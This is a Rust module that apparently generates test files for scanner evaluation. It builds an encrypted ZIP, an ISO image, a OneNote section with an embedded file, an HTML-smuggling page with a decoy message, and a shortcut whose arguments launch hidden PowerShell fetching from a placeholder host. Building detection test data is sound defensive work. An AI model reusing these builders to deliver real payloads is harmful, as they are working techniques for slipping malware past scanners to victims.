//! Files that carry others past a scanner: an encrypted ZIP (APPNOTE 6.1), a disk image (ECMA-119), a shortcut (MS-SHLLINK), a
//! notebook with an embedded file (MS-ONESTORE), a page that makes its file in the browser. What they carry is a sentence.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::super::dice::Dice;

/// A ZIP with one stored file, encrypted by PKWARE's old cipher, as mail in practice has it. Written here because the
/// library draws its salt from the system, and the same seed has to give the same bytes.
pub(in super::super) fn encrypted_zip(name: &str, bytes: &[u8], password: &str, dice: &mut Dice) -> Vec<u8> {
    let sum = crc(bytes);
    let mut plain = dice.bytes(11);
    plain.push((sum >> 24) as u8);
    plain.extend(bytes);
    let mut keys = Keys::of(password);
    let secret: Vec<u8> = plain.iter().map(|byte| keys.encrypt(*byte)).collect();
    let mut head = Vec::new();
    for field in [20_u16, 1, 0, 0, 0x21] {
        head.extend(field.to_le_bytes());
    }
    for field in [sum, secret.len() as u32, bytes.len() as u32] {
        head.extend(field.to_le_bytes());
    }
    head.extend((name.len() as u16).to_le_bytes());
    head.extend([0, 0]);
    let mut file = [b"PK\x03\x04", head.as_slice(), name.as_bytes(), &secret].concat();
    let directory = file.len() as u32;
    file.extend([b"PK\x01\x02\x14\x00", head.as_slice(), &[0; 14], name.as_bytes()].concat());
    let length = file.len() as u32 - directory;
    file.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    file.extend([length.to_le_bytes(), directory.to_le_bytes()].concat());
    file.extend([0, 0]);
    file
}

/// The cipher's three keys.
struct Keys([u32; 3]);

impl Keys {
    fn of(password: &str) -> Self {
        let mut keys = Self([0x1234_5678, 0x2345_6789, 0x3456_7890]);
        password.bytes().for_each(|byte| keys.update(byte));
        keys
    }

    fn update(&mut self, byte: u8) {
        let [a, b, c] = &mut self.0;
        *a = step(*a, byte);
        *b = b.wrapping_add(*a & 0xff).wrapping_mul(134_775_813).wrapping_add(1);
        *c = step(*c, (*b >> 24) as u8);
    }

    fn encrypt(&mut self, byte: u8) -> u8 {
        let word = self.0[2] as u16 | 2;
        let pad = (word.wrapping_mul(word ^ 1) >> 8) as u8;
        self.update(byte);
        byte ^ pad
    }
}

fn crc(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |sum, byte| step(sum, *byte))
}

fn step(sum: u32, byte: u8) -> u32 {
    (0..8).fold(sum ^ u32::from(byte), |sum, _| (sum >> 1) ^ (0xedb8_8320 & (sum & 1).wrapping_neg()))
}

/// A shortcut whose arguments start PowerShell. The host is under `.example`.
pub(in super::super) fn shortcut(host: &str) -> Vec<u8> {
    let mut link = vec![0x4c, 0, 0, 0];
    // The class of shortcuts, 00021401-0000-0000-C000-000000000046 (MS-SHLLINK 2.1).
    link.extend([0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46]);
    // HasRelativePath, HasArguments, IsUnicode.
    link.extend(0x0000_00a8_u32.to_le_bytes());
    link.resize(0x3c, 0);
    link.extend(7_u32.to_le_bytes()); // shown minimised
    link.resize(0x4c, 0);
    let arguments = format!("-w hidden -c \"Invoke-WebRequest http://{host}/\"");
    for text in ["..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", &arguments] {
        let wide: Vec<u16> = text.encode_utf16().collect();
        link.extend((wide.len() as u16).to_le_bytes());
        link.extend(wide.into_iter().flat_map(u16::to_le_bytes));
    }
    link.extend([0; 4]);
    link
}

/// A disk image with one file in its root.
pub(in super::super) fn disk_image(label: &str, name: &str, bytes: &[u8]) -> Vec<u8> {
    const SECTOR: usize = 2048;
    let sectors = 20 + bytes.len().div_ceil(SECTOR);
    let mut image = vec![0; sectors * SECTOR];
    let root = entry(&[0], 18, SECTOR, 2);
    let mut volume = [b"\x01CD001\x01\0".as_slice(), &[b' '; 32], padded(label, 32).as_slice(), &[0; 8]].concat();
    volume.extend(both(sectors as u32));
    volume.resize(120, 0);
    for number in [1_u16, 1, SECTOR as u16] {
        volume.extend([number.to_le_bytes(), number.to_be_bytes()].concat());
    }
    volume.resize(156, 0);
    volume.extend(&root);
    put(&mut image, 16 * SECTOR, &volume);
    put(&mut image, 17 * SECTOR, b"\xffCD001\x01");
    let listing = [root, entry(&[1], 18, SECTOR, 2), entry(name.as_bytes(), 19, bytes.len(), 0)].concat();
    put(&mut image, 18 * SECTOR, &listing);
    put(&mut image, 19 * SECTOR, bytes);
    image
}

/// A directory record (ECMA-119, 9.1).
fn entry(name: &[u8], sector: u32, length: usize, flags: u8) -> Vec<u8> {
    let size = 33 + name.len() + (name.len() + 1) % 2;
    let mut record = vec![size as u8, 0];
    record.extend(both(sector));
    record.extend(both(length as u32));
    record.extend([116, 10, 27, 8, 0, 0, 0, flags, 0, 0, 1, 0, 0, 1, name.len() as u8]);
    record.extend(name);
    record.resize(size, 0);
    record
}

fn both(number: u32) -> Vec<u8> {
    [number.to_le_bytes(), number.to_be_bytes()].concat()
}

fn padded(text: &str, length: usize) -> Vec<u8> {
    let mut bytes = text.as_bytes().to_vec();
    bytes.resize(length, b' ');
    bytes
}

fn put(image: &mut [u8], at: usize, bytes: &[u8]) {
    if let Some(place) = image.get_mut(at..at + bytes.len()) {
        place.copy_from_slice(bytes);
    }
}

/// A notebook section's header and one embedded file (MS-ONESTORE 2.3.1, 2.6.13). A program that opens notebooks would
/// miss the rest; those who look for embedded files find what they look for.
pub(in super::super) fn notebook(text: &str, file: &[u8]) -> Vec<u8> {
    let mut bytes = vec![
        0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96,
        0xd3, // guidFileType
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, // guidFile
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, // guidLegacyFileVersion
        0x3f, 0xdd, 0x9a, 0x10, 0x1b, 0x91, 0xf5, 0x49, 0xa5, 0xd0, 0x17, 0x91, 0xed, 0xc8, 0xae,
        0xd8, // guidFileFormat
    ];
    bytes.resize(1024, 0);
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.resize(bytes.len().next_multiple_of(16), 0);
    bytes.extend([0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac]);
    bytes.extend((file.len() as u64).to_le_bytes());
    bytes.extend([0; 12]);
    bytes.extend(file);
    bytes.resize(bytes.len().next_multiple_of(8), 0);
    bytes.extend([0x22, 0xa7, 0xfb, 0x71, 0x79, 0x0f, 0x0b, 0x4a, 0xbb, 0x13, 0x89, 0x92, 0x56, 0x42, 0x6b, 0x24]);
    bytes
}

/// A page whose script makes a file and hands it to the reader (T1027.006).
pub(in super::super) fn smuggling_page(title: &str, name: &str, file: &[u8], dice: &mut Dice) -> Vec<u8> {
    let (data, link) = (format!("d{}", dice.hex(5)), format!("a{}", dice.hex(5)));
    format!(
        "<!DOCTYPE html>\r\n<html><head><title>{title}</title></head><body><p>Your document is being prepared&hellip;</p>\r\n\
         <script>\r\nvar {data} = atob(\"{}\");\r\nvar bytes = new Uint8Array({data}.length);\r\n\
         for (var i = 0; i < {data}.length; i++) bytes[i] = {data}.charCodeAt(i);\r\n\
         var {link} = document.createElement(\"a\");\r\n\
         {link}.href = URL.createObjectURL(new Blob([bytes], {{type: \"octet/stream\"}}));\r\n\
         {link}.download = \"{name}\";\r\ndocument.body.appendChild({link});\r\n{link}.click();\r\n</script></body></html>\r\n",
        STANDARD.encode(file)
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read as _;

    #[test]
    fn the_password_opens_the_archive_and_another_does_not() {
        let bytes = encrypted_zip("list.txt", b"an invented list", "heron42", &mut Dice::of(1, "zip"));
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut text = String::new();
        archive.by_index_decrypt(0, b"heron42").unwrap().read_to_string(&mut text).unwrap();
        assert_eq!(text, "an invented list");
        assert!(archive.by_index(0).is_err(), "encrypted");
        let mut wrong = Vec::new();
        let opened = archive.by_index_decrypt(0, b"wren").map(|mut file| file.read_to_end(&mut wrong).is_ok());
        assert!(!matches!(opened, Ok(true)));
    }

    #[test]
    fn an_image_names_its_file_and_holds_it() {
        let image = disk_image("TEST_DECK", "DECK.LNK;1", b"inside");
        assert_eq!(&image[0x8001..0x8006], b"CD001");
        let find = |what: &[u8]| image.windows(what.len()).position(|window| window == what).unwrap();
        assert_eq!(find(b"DECK.LNK;1") / 2048, 18);
        assert_eq!(find(b"inside"), 19 * 2048);
    }

    #[test]
    fn checksums_agree_with_the_published_one() {
        assert_eq!(crc(b"123456789"), 0xcbf4_3926);
    }
}
